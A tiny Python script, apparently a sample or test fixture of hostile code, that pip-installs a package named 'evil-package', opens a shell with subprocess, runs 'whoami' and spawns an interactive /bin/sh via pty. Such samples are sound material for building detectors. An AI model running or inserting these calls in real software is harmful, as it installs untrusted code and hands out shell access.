import pty
import subprocess as sp
from subprocess import check_output as co

sp.run(["pip", "install", "evil-package"])
proc = sp.Popen("sh", shell=True)
co(["whoami"])
pty.spawn("/bin/sh")
